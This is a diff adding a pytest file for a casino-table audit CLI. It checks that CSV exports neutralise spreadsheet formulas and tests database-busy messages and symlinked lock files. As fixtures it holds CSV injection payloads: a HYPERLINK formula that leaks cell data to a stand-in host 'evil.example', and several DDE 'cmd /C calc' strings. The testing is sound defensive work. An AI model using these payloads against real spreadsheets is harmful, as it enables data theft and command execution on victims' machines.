@@ -1,0 +1,361 @@
+"""Hostile text in the exports, the database-busy message, and the nightly lock through a
+symlink (issue 20, part 4).
+
+Everything runs the real command (`python -m auditor.cli.app`) in a process of its own, so
+the exit codes, stderr and the CSV bytes are what an operator gets. A shoe id is any string
+the table system sends, so it carries spreadsheet formulas through ingest into findings; a
+table or pit id may start with `-`, and the table pass's messages start with the table id.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import select
+import subprocess
+import sys
+import textwrap
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+
+import pypdf
+import pytest
+from helpers.events import contract_lines, line
+from helpers.tablelog import DECK, Log, deal_rounds
+
+from auditor.jobs import nightly
+from auditor.store import db
+from auditor.store.findings import csv_cell, csv_row
+
+# --------------------------------------------------------------------------------------------
+# running the command
+# --------------------------------------------------------------------------------------------
+
+
+@dataclass
+class Run:
+    code: int
+    out: str
+    err: str
+
+
+def bacc_audit(cwd: Path, *args: str | Path) -> Run:
+    """`bacc-audit ARGS` in a fresh process; output decoded by hand, since text mode would
+    turn a carriage return inside a CSV cell into a newline."""
+    env = {k: v for k, v in os.environ.items() if not k.startswith("BACC_AUDIT_")}
+    p = subprocess.run(
+        [sys.executable, "-m", "auditor.cli.app", *map(str, args)],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        timeout=300,
+    )
+    return Run(p.returncode, p.stdout.decode(), p.stderr.decode())
+
+
+def csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@contextmanager
+def holder(script: str, *args: str | Path) -> Iterator[int]:
+    """A second process running `script` until the block ends; it prints one line when it
+    holds what it was asked to hold. Yields its pid."""
+    child = subprocess.Popen(
+        [sys.executable, "-c", textwrap.dedent(script), *map(str, args)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert child.stdout is not None
+        started, _, _ = select.select([child.stdout], [], [], 60)
+        ready = child.stdout.readline() if started else ""
+        if ready.strip() != "ready":
+            child.kill()
+            _, err = child.communicate(timeout=10)
+            pytest.fail(f"the holding process did not start: {err}")
+        yield child.pid
+    finally:
+        child.kill()
+        child.wait(timeout=10)
+        for stream in (child.stdout, child.stderr):
+            if stream:
+                stream.close()
+
+
+# --------------------------------------------------------------------------------------------
+# the rule itself
+# --------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-A1", "'-A1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'=1+1", "''=1+1"),  # already quoted: one more, so dropping one gives it back
+        ("MB-07", "MB-07"),
+        (" =1+1", " =1+1"),
+        ("", ""),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_csv_cell_quotes_text_that_starts_a_formula(value: object, cell: object) -> None:
+    assert csv_cell(value) == cell
+
+
+def test_json_cells_keep_numbers_and_quote_nothing_else_a_spreadsheet_would_run() -> None:
+    row = csv_row({"round": -3, "seq": 7, "expected": -1, "observed": "-1", "message": "-x"})
+    assert row == {"round": -3, "seq": 7, "expected": "-1", "observed": '"-1"', "message": "'-x"}
+    row = csv_row({"expected": 2.5, "observed": True})
+    assert row == {"expected": "2.5", "observed": "true"}
+    row = csv_row({"expected": None, "observed": {"burn": None}})
+    assert row == {"expected": "null", "observed": '{"burn": null}'}
+
+
+# --------------------------------------------------------------------------------------------
+# end to end: logs with formulas in them, through ingest, audit, findings and report
+# --------------------------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+# Each shoe id as sent, and the CSV cell it must become.
+SHOES = {
+    HYPERLINK: "'" + HYPERLINK,
+    '+cmd|" /C calc"!A0': '\'+cmd|" /C calc"!A0',
+    '@SUM(1+1)*cmd|" /C calc"!A0': '\'@SUM(1+1)*cmd|" /C calc"!A0',
+    '-2+3+cmd|" /C calc"!A0': '\'-2+3+cmd|" /C calc"!A0',
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "'=1+1": "''=1+1",
+    "S\r=1+1": "S\r=1+1",  # not at the start: no quote, but the cell must be quoted
+    "S-7": "S-7",
+}
+NO_BURN = (
+    ": no burn was recorded before dealing began; the house burns cards at the start of every "
+    "shoe."
+)
+MALFORMED = {  # round -3 is not allowed: a log.malformed finding that keeps the -3
+    "v": 1, "ts": "2026-11-28T23:30:00-05:00", "type": "wager", "table": "-A1", "seq": 999,
+    "shoe": HYPERLINK, "round": -3, "seat": 3, "bet": "banker", "amount": 100,
+}
+
+
+@dataclass
+class Night:
+    dir: Path
+    csv: str
+    jsonl: list[dict]
+    pdf_csv: str
+    pdf_jsonl: list[dict]
+
+
+@pytest.fixture(scope="module")
+def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
+    """Table `-A1` in pit `-P3` deals one round from each hostile shoe without a burn (a
+    shoe.burn finding per shoe), and a second file holds the malformed wager."""
+    d = tmp_path_factory.mktemp("hostile")
+    log = Log()
+    log.open("-A1", "-P3", "22:00")
+    rounds = deal_rounds(DECK, 0, len(SHOES))
+    for i, shoe in enumerate(SHOES):
+        log.shoe_start("-A1", f"22:{10 + 5 * i:02d}", shoe)
+        log.round("-A1", shoe, 1, rounds[i])
+        log.shoe_end("-A1", shoe)
+    log.write(d / "logs" / "night.jsonl")
+    (d / "logs" / "bad.jsonl").write_text(json.dumps(MALFORMED) + "\n")
+    assert bacc_audit(d, "ingest", "logs").code == 1  # the malformed line is quarantined
+    assert bacc_audit(d, "audit").code == 1
+    as_csv = bacc_audit(d, "findings", "--format", "csv")
+    as_jsonl = bacc_audit(d, "findings", "--format", "jsonl")
+    report = bacc_audit(d, "report", "--shift", "2026-11-28/grave", "--out", "night.pdf")
+    assert (as_csv.code, as_jsonl.code, report.code) == (0, 0, 0), (as_csv, as_jsonl, report)
+    files = pypdf.PdfReader(d / "night.pdf").attachments
+    return Night(
+        d,
+        as_csv.out,
+        [json.loads(x) for x in as_jsonl.out.splitlines()],
+        files["findings.csv"][0].decode(),
+        [json.loads(x) for x in files["findings.jsonl"][0].decode().splitlines()],
+    )
+
+
+def by_fingerprint(rows: list[dict]) -> dict[str, dict]:
+    return {r["fingerprint"]: r for r in rows}
+
+
+@pytest.mark.slow
+def test_the_findings_csv_quotes_every_formula_and_the_jsonl_keeps_the_text(night: Night) -> None:
+    cells = by_fingerprint(csv_rows(night.csv))
+    burns = [r for r in night.jsonl if r["code"] == "shoe.burn"]
+    assert [r["shoe"] for r in burns] == list(SHOES)
+    for rec in burns:
+        shoe = rec["shoe"]
+        assert (rec["table"], rec["pit"], rec["round"]) == ("-A1", "-P3", 1)
+        assert rec["message"] == f"-A1 shoe {shoe}{NO_BURN}"
+        row = cells[rec["fingerprint"]]
+        assert (row["table"], row["pit"], row["shoe"], row["round"]) == (
+            "'-A1", "'-P3", SHOES[shoe], "1"
+        )
+        assert row["message"] == f"'-A1 shoe {shoe}{NO_BURN}"
+        assert row["seq"] == str(rec["seq"]) and row["ts"] == rec["ts"]
+        assert row["source"] == rec["source"] and row["source"].startswith("/")
+        assert row["expected"] == (
+            '{"burn": {"burn": "card_value", "expose": 1, "ten_value_burns": 10}}'
+        )
+        assert row["observed"] == '{"burn": null}'
+    # What a spreadsheet reads: the first cells of the first finding's line, byte for byte.
+    assert (
+        "\nshoe.burn,minor,'-A1,'-P3,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"
+        "\"\"click\"\")\",1,3,2026-11-28T22:10:20.000-05:00,"
+    ) in night.csv
+
+
+@pytest.mark.slow
+def test_a_malformed_line_keeps_its_negative_round_as_a_number(night: Night) -> None:
+    [rec] = [r for r in night.jsonl if r["code"] == "log.malformed"]
+    assert (rec["table"], rec["shoe"], rec["round"], rec["seq"]) == ("-A1", HYPERLINK, -3, 999)
+    row = by_fingerprint(csv_rows(night.csv))[rec["fingerprint"]]
+    assert (row["table"], row["pit"], row["shoe"], row["round"], row["seq"]) == (
+        "'-A1", "", "'" + HYPERLINK, "-3", "999"
+    )
+    assert row["message"] == (
+        "Line 1 of bad.jsonl could not be read: round must be a whole number from 1 to "
+        "1000000000000000, not -3; it is kept in quarantine"
+    )
+    assert row["expected"] == '"a line of event log v1"'
+    assert json.loads(row["observed"])["line"] == json.dumps(MALFORMED)
+
+
+@pytest.mark.slow
+def test_the_pdfs_csv_has_the_same_cells_and_its_jsonl_the_same_text(night: Night) -> None:
+    cli, pdf = by_fingerprint(csv_rows(night.csv)), by_fingerprint(csv_rows(night.pdf_csv))
+    assert set(pdf) == set(cli) and len(pdf) == len(night.jsonl)
+    assert pdf == cli
+    assert pdf[f"shoe.burn|-A1|{HYPERLINK}|none"]["shoe"] == "'" + HYPERLINK
+    assert pdf[f"shoe.burn|-A1|{HYPERLINK}|none"]["message"] == f"'-A1 shoe {HYPERLINK}{NO_BURN}"
+    assert by_fingerprint(night.pdf_jsonl) == by_fingerprint(night.jsonl)
+    assert {r["shoe"] for r in night.pdf_jsonl} == set(SHOES)
+
+
+@pytest.mark.slow
+def test_no_cell_of_either_csv_starts_a_formula_unless_it_is_a_number(night: Night) -> None:
+    for text in (night.csv, night.pdf_csv):
+        for row in csv.reader(io.StringIO(text, newline="")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+                assert not cell.startswith("-") or re.fullmatch(r"-\d+", cell), cell
+
+
+# --------------------------------------------------------------------------------------------
+# database busy: what the message says about the other process
+# --------------------------------------------------------------------------------------------
+
+HOLD_DB = """
+    import sys, time
+    import duckdb
+    con = duckdb.connect(sys.argv[1], read_only=sys.argv[2] == "read")
+    con.execute("SELECT count(*) FROM findings").fetchall()
+    print("ready", flush=True)
+    time.sleep(120)
+"""
+TRY_AGAIN = "try again when it has finished"
+
+
+@pytest.fixture
+def audit_db(tmp_path: Path) -> tuple[Path, Path]:
+    """An audit database with the contract's example in it, and a log to ingest."""
+    path = tmp_path / "audit.duckdb"
+    db.connect(path).close()
+    log = tmp_path / "night.jsonl"
+    log.write_text("".join(line(x) + "\n" for x in contract_lines()))
+    return path, log
+
+
+def test_ingest_while_another_process_reads_says_it_is_reading(
+    audit_db: tuple[Path, Path], tmp_path: Path
+) -> None:
+    path, log = audit_db
+    with holder(HOLD_DB, path, "read") as pid:
+        r = bacc_audit(tmp_path, "ingest", log, "--db", path)
+        assert (r.code, r.out) == (4, ""), r
+        assert r.err == (
+            f"error: {path}: database busy: another process (PID {pid}) has it open for "
+            f"reading, and nothing can write to it until that process closes it; {TRY_AGAIN}\n"
+        )
+        # Readers share the database: a second reader is not refused.
+        assert bacc_audit(tmp_path, "findings", "--db", path).code == 0
+
+
+def test_reading_or_writing_while_another_process_writes_says_it_is_writing(
+    audit_db: tuple[Path, Path], tmp_path: Path
+) -> None:
+    path, log = audit_db
+    with holder(HOLD_DB, path, "write") as pid:
+        for args in (["findings", "--format", "csv"], ["ingest", log]):
+            r = bacc_audit(tmp_path, *args, "--db", path)
+            assert (r.code, r.out) == (4, ""), r
+            assert r.err == (
+                f"error: {path}: database busy: another process (PID {pid}) has it open for "
+                f"writing; {TRY_AGAIN}\n"
+            )
+
+
+def test_a_lock_error_without_the_holder_says_only_what_is_known() -> None:
+    from auditor.store.db import busy_message
+
+    text = 'IO Error: Could not set lock on file "a.duckdb": Resource temporarily unavailable'
+    assert busy_message(Path("a.duckdb"), text, read_only=False) == (
+        f"a.duckdb: database busy: another process has it open; {TRY_AGAIN}"
+    )
+
+
+# --------------------------------------------------------------------------------------------
+# the nightly lock follows symlinks
+# --------------------------------------------------------------------------------------------
+
+HOLD_LOCK = """
+    import fcntl, json, os, sys, time
+    fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o644)
+    fcntl.flock(fd, fcntl.LOCK_EX)
+    os.pwrite(fd, json.dumps({"pid": os.getpid(), "run_id": 99, "since": "then"}).encode(), 0)
+    print("ready", flush=True)
+    time.sleep(120)
+"""
+
+
+@pytest.mark.parametrize("linked", ["file", "folder"])
+def test_nightly_through_a_symlink_finds_the_lock_of_the_real_database(
+    tmp_path: Path, linked: str
+) -> None:
+    real = tmp_path.resolve() / "var" / "audit.duckdb"
+    real.parent.mkdir()
+    db.connect(real).close()
+    if linked == "file":
+        link = tmp_path / "audit-link.duckdb"
+        link.symlink_to(real)
+    else:
+        (tmp_path / "var-link").symlink_to(real.parent, target_is_directory=True)
+        link = tmp_path / "var-link" / "audit.duckdb"
+    (tmp_path / "spool").mkdir()
+    assert nightly.lock_path(link) == real.parent / "audit.duckdb.lock"
+    with holder(HOLD_LOCK, real.parent / "audit.duckdb.lock") as pid:
+        assert nightly.lock_holder(link) == nightly.LockInfo(pid, 99, "then")
+        r = bacc_audit(tmp_path, "nightly", "--spool", "spool", "--db", link)
+        assert (r.code, r.out) == (5, ""), r
+        assert r.err == (
+            f"error: {link}: another nightly run holds the lock: nightly run 99 (process {pid}, "
+            f"since then); this run did nothing (lock file {real}.lock)\n"
+        )
+    assert not (tmp_path / "audit-link.duckdb.lock").exists()
+    assert sorted(p.name for p in real.parent.iterdir()) == ["audit.duckdb", "audit.duckdb.lock"]
